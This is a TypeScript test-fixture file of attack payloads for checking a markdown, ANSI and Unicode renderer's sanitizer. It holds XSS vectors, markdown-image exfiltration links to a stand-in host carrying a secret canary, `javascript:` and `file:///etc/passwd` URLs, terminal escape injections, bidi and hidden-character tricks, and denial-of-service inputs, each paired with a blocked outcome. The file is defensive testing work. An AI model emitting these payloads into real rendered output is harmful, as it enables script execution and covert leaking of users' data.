import type { Family, Payload } from "./payloads.ts";

const EXEC = { exec: 0, net: 0, nav: 0 };
const QUIET = { net: 0, dns: 0 };
const none = (family: string, inputs: readonly unknown[], expect: Payload["expect"]): Payload[] =>
  inputs.map((input, index) => ({ id: `own-${family}-${index + 1}`, input, expect }));

const ESC = "\u001b";

/** A few attacks of each family, for machines without the shared data. Canaries: `__x(1)` and `canary.invalid`. */
export const OWN: Record<Family, readonly Payload[]> = {
  xss: none(
    "xss",
    [
      "<script>window.__x(1)</script>",
      "before <img src=no-such onerror='__x(1)'> after",
      "<svg><animate onbegin=__x(1) attributeName=x dur=1s>",
      "<details ontoggle=__x(1) open><summary>s</summary></details>",
      "<iframe srcdoc='<script>parent.__x(1)</script>'></iframe>",
      "<math><mtext><table><mglyph><style><img src=x onerror=__x(1)>",
      "[go](javascript:__x(1))",
      "[go](<jav&#x09;ascript:__x(1)>)",
      "![i](x)[go][r]\n\n[r]: JAVASCRIPT:__x(1)",
      "| a |\n|---|\n| <img src=x onerror=__x(1)> |",
      "note[^n]\n\n[^n]: <img src=x onerror=__x(1)>",
      '```"><img/src=x/onerror=__x(1)>\nx\n```',
      { field: "title", value: "</title><script>__x(1)</script>" },
      { field: "json", value: { dangerouslySetInnerHTML: { __html: "<img src=x onerror=__x(1)>" } } },
    ],
    EXEC,
  ),
  exfil: none(
    "exfil",
    [
      "![](https://canary.invalid/i.png?d=S3CRET-CANARY)",
      "![a](//canary.invalid/i.png?d=S3CRET-CANARY)",
      "![a][r]\n\n[r]: https://canary.invalid/i?d=S3CRET-CANARY",
      "[![a](https://canary.invalid/i?d=S3CRET-CANARY)](https://example.com/)",
      "- [x] ![a](https:canary.invalid/i?d=S3CRET-CANARY)",
      "<img srcset='https://canary.invalid/i 1x'>",
      "<video poster='https://canary.invalid/i'></video>",
      "<p style='background:url(https://canary.invalid/i)'>x</p>",
      "<link rel=stylesheet href=https://canary.invalid/s.css>",
      "<link rel=preconnect href=https://canary.invalid>",
      "<object data=https://canary.invalid/o></object>",
      "<iframe src=https://canary.invalid/f></iframe>",
    ],
    QUIET,
  ),
  urls: [
    ...none(
      "url-block",
      ["javascript:__x(1)", "java\tscript:__x(1)", "data:text/html,<b>x", "file:///etc/passwd", "vbscript:x"],
      { link: "block", image: "block" },
    ),
    ...[
      ["//canary.invalid/x", "canary.invalid"],
      ["https://github.com@canary.invalid/", "canary.invalid"],
      ["https://github.com.canary.invalid/", "github.com.canary.invalid"],
      ["https://xn--80ak6aa92e.com/", "xn--80ak6aa92e.com"],
    ].map(([input, shownHost], index) => ({
      id: `own-url-confirm-${index + 1}`,
      input,
      expect: { link: "confirm", image: "block", shownHost },
    })),
    ...none("url-allow", ["https://example.com/a?b=c", "https://docs.python.org/3/", "#section"], {
      link: "allow",
      image: "block",
    }),
  ],
  ansi: [
    { id: "own-ansi-1", input: `${ESC}[1;31mred${ESC}[0m plain`, expect: { text: "red plain", ctl: 0 } },
    { id: "own-ansi-2", input: `${ESC}]0;title\u0007x`, expect: { text: "x", ctl: 0 } },
    { id: "own-ansi-3", input: `${ESC}]52;c;ZWNobw==${ESC}\\x`, expect: { text: "x", ctl: 0 } },
    { id: "own-ansi-4", input: `${ESC}P1;2|device control${ESC}\\x`, expect: { text: "x", ctl: 0 } },
    { id: "own-ansi-5", input: "a\r\nb\u0007c", expect: { text: "a\nbc", ctl: 0 } },
    { id: "own-ansi-6", input: "dangerous command\rharmless", expect: { ctl: 0, recoverable: true } },
    { id: "own-ansi-7", input: `${ESC}[8mconcealed${ESC}[0m seen`, expect: { ctl: 0, recoverable: true } },
    { id: "own-ansi-8", input: `first${ESC}[2K\rsecond`, expect: { ctl: 0, recoverable: true } },
    {
      id: "own-ansi-9",
      input: `${ESC}]8;;https://example.com/r${ESC}\\report${ESC}]8;;${ESC}\\`,
      expect: { text: "report", ctl: 0, link: { href: "https://example.com/r" } },
    },
    {
      id: "own-ansi-10",
      input: `${ESC}]8;;javascript:__x(1)${ESC}\\click${ESC}]8;;${ESC}\\`,
      expect: { text: "click", ctl: 0, link: null },
    },
    {
      id: "own-ansi-11",
      input: "<img src=x onerror=__x(1)>",
      expect: { text: "<img src=x onerror=__x(1)>", ctl: 0 },
    },
    { id: "own-ansi-12", input: { chunks: [ESC, "[3", "1mred"] }, expect: { text: "red", ctl: 0 } },
  ],
  unicode: [
    ...none(
      "hidden",
      [
        "if (role \u202e!= 'user')",
        "a\u2066b\u2069c",
        "pass\u200bword",
        "is\u200dAdmin()",
        "a\u2060b",
        "x = 1;\u3164 y = 2;",
        "cd /tmp\u00a0&& ls",
        "file_\u202egpj.exe",
      ],
      { flag: true },
    ),
    { id: "own-tags", input: "done.\u{e0068}\u{e0069}", expect: { flag: true, decoded: true } },
    ...none(
      "legal",
      [
        "family \u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
        "\u05e9\u05dc\u05d5\u05dd world",
        "caf\u00e9",
        "Привет",
      ],
      { flag: false },
    ),
  ],
  pathological: none(
    "path",
    [
      { gen: "nest", open: "*a **a ", close: " a** a*", depth: 5_000, inner: "b" },
      { gen: "repeat", unit: "*a_ ", count: 20_000 },
      { gen: "nest", open: "[", close: "]", depth: 20_000, inner: "a" },
      { gen: "repeat", unit: "> ", count: 10_000 },
      { gen: "concat", parts: [{ gen: "repeat", unit: "- ", count: 5_000 }, "x"] },
      { gen: "listnest", indent: "  ", marker: "* a", depth: 400 },
      { gen: "nest", open: "<b>", close: "</b>", depth: 5_000, inner: "a" },
      { gen: "repeat", unit: "` ", count: 50_000 },
      { gen: "repeat", unit: "&", count: 200_000 },
      { gen: "repeat", unit: "a", count: 1_000_000 },
      { gen: "repeat", unit: "p\n\n", count: 50_000 },
      { gen: "fence", lang: "js", body: { gen: "repeat", unit: "a", count: 1_000_000 } },
      { gen: "table", rows: 20_000, cols: 5, cell: "c" },
    ],
    { noThrow: true, othersUsable: true },
  ),
};
